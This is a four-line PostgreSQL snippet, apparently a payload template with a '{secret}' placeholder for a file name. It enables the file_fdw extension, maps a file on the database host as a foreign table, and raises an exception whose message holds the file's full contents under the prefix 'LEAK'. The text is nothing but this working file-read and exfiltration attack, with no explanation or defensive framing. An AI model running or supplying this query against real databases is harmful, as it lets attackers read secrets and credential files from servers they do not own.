CREATE EXTENSION file_fdw;
CREATE SERVER s FOREIGN DATA WRAPPER file_fdw;
CREATE FOREIGN TABLE said (line text) SERVER s OPTIONS (filename '{secret}');
DO $$ BEGIN RAISE EXCEPTION 'LEAK %', (SELECT string_agg(line, ' ') FROM said); END $$;
